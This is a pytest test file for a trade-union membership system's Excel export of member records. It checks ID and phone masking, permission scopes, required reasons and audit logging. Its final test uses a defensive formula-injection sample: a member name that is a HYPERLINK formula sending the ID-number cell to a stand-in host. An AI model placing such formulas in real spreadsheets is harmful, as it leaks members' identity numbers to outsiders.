import dataclasses
import io

import pytest
from openpyxl import load_workbook

from gonghui.accounts.roles import ROLES, RoleCode
from gonghui.accounts.services import grant_create
from gonghui.core.audit_models import AuditEntry
from gonghui.core.errors import NotFound, PermissionDenied, ValidationFailed
from gonghui.core.permissions import Perm
from gonghui.members.models import PersonalDataAccess
from gonghui.members.services.export import COLUMNS, member_export
from gonghui.testing.world import SYSTEM, make_member, make_user

pytestmark = pytest.mark.django_db


def export(actor, **filters):
    out = io.BytesIO()
    result = member_export(actor=actor, out=out, **filters)
    out.seek(0)
    rows = list(load_workbook(out, read_only=True).active.iter_rows(values_only=True))
    return result, rows


@pytest.fixture
def exporter_without_reveal(world, monkeypatch):
    """Exports the city but may reveal only in the county: a statistics role given export for this test."""
    viewer = ROLES[RoleCode.STATS_VIEWER]
    monkeypatch.setitem(ROLES, RoleCode.STATS_VIEWER.value, dataclasses.replace(
        viewer, permissions=viewer.permissions | {Perm.MEMBER_VIEW, Perm.MEMBER_EXPORT}))
    user = make_user("city_stats", world.city, RoleCode.STATS_VIEWER)
    grant_create(actor=SYSTEM, user=user, role=RoleCode.UNION_ADMIN, org=world.county)
    return user


def test_the_workbook_has_the_headers_and_full_numbers_for_one_who_may_reveal(world):
    member = world.membership.member
    result, rows = export(world.county_admin, full=True, reason="核对社保缴纳名单")
    assert rows[0] == tuple(str(c) for c in COLUMNS)
    assert (result.rows, result.full) == (1, True)
    row = dict(zip(rows[0], rows[1], strict=True))
    assert (row["姓名"], row["证件号码"], row["手机号码"]) == (member.name, member.id_number, member.phone)
    assert (row["所在工会"], row["会籍状态"], row["户籍类型"], row["证件类型"]) == (
        world.grassroots.name, "正常", "农村户籍", "居民身份证")
    assert row["入会日期"] == world.membership.join_date.isoformat()
    assert row["出生年月"] == member.birth_date.strftime("%Y-%m")


def test_numbers_are_masked_unless_the_reveal_scope_covers_every_row(world, exporter_without_reveal):
    member = world.membership.member
    make_member(world.county2, name="绵阳会员")
    with pytest.raises(PermissionDenied):  # the city: 成都 only, county2 lies in 绵阳
        export(exporter_without_reveal, full=True, reason="核对名单")
    result, rows = export(exporter_without_reveal)
    assert (result.rows, result.full) == (1, False)
    assert rows[1][4:7] == (member.id_masked, member.birth_date.strftime("%Y-%m"), member.phone_masked)
    result, rows = export(exporter_without_reveal, union=world.county, full=True, reason="核对名单")
    assert result.full and rows[1][4] == member.id_number


def test_numbers_are_masked_unless_asked_for_in_full(world):
    member = world.membership.member
    result, rows = export(world.county_admin)
    assert not result.full and rows[1][4] == member.id_masked
    assert not PersonalDataAccess.objects.exists()


def test_a_full_export_without_a_reason_is_refused(world):
    with pytest.raises(ValidationFailed) as refused:
        export(world.county_admin, full=True, reason=" ")
    assert refused.value.field == "reason"
    assert not AuditEntry.objects.filter(action="member.export").exists()


def test_a_full_export_logs_one_access_row_per_person_with_the_reason(world):
    others = [make_member(world.township, name=f"会员{i}").member for i in range(3)]
    result, _rows = export(world.county_admin, full=True, reason="核对社保缴纳名单")
    assert result.rows == 4
    logged = PersonalDataAccess.objects.order_by("member_id")
    assert sorted(a.member_id for a in logged) == sorted([world.membership.member.pk, *(m.pk for m in others)])
    assert {(a.field, a.reason, a.actor_label) for a in logged} == {("export", "核对社保缴纳名单", "county_admin")}
    assert AuditEntry.objects.get(action="member.export").detail["reason"] == "核对社保缴纳名单"


def test_the_export_is_audited_with_its_filters_and_row_count(world):
    member = world.membership.member
    export(world.county_admin, query=member.id_number, union=world.county, employment_form="regular")
    entry = AuditEntry.objects.get(action="member.export")
    assert entry.detail == {"filters": {"query": member.id_masked, "union": world.county.pk, "status": "live",
                                        "employment_form": "regular"}, "rows": 1, "full": False}
    assert (entry.actor_label, entry.org_path) == ("county_admin", world.county.path)
    assert member.id_number not in str(entry.detail)


def test_filters_narrow_the_rows(world):
    make_member(world.township, name="新业态", employment_form="new_form", new_form_group="courier")
    assert export(world.county_admin)[0].rows == 2
    assert export(world.county_admin, new_form_group="courier")[0].rows == 1
    assert export(world.county_admin, migrant=False)[0].rows == 0


def test_only_an_exporter_may_export_within_scope(world):
    with pytest.raises(PermissionDenied):
        export(world.county_clerk)
    with pytest.raises(PermissionDenied):
        export(world.county_clerk, union=world.county)
    with pytest.raises(NotFound):
        export(world.county_admin, union=world.county2)
    assert not AuditEntry.objects.filter(action="member.export").exists()


def test_a_name_that_reads_like_a_formula_goes_out_as_text(world):
    name = '=HYPERLINK("http://e.x/?"&E2,"x")'
    make_member(world.grassroots, name=name)
    out = io.BytesIO()
    member_export(actor=world.county_admin, out=out)
    out.seek(0)
    sheet = load_workbook(out).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert name in [c.value for c in cells]
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
